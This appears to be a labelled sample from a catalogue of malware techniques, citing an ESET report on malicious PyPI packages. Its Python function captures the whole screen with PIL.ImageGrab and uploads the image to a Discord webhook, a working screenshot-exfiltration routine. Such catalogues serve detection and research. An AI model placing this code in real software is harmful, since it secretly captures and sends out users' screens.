# technique: screenshots with PIL.ImageGrab uploaded
# class: desktop
# source: ESET, 116 malicious PyPI packages (2023): backdoors with screenshot capture
# declares: network
import io

import requests
from PIL import ImageGrab


def snap():
    buf = io.BytesIO()
    ImageGrab.grab().save(buf, "PNG")
    requests.post("https://discord.com/api/webhooks/11/abc", files={"s.png": buf.getvalue()}, timeout=5)
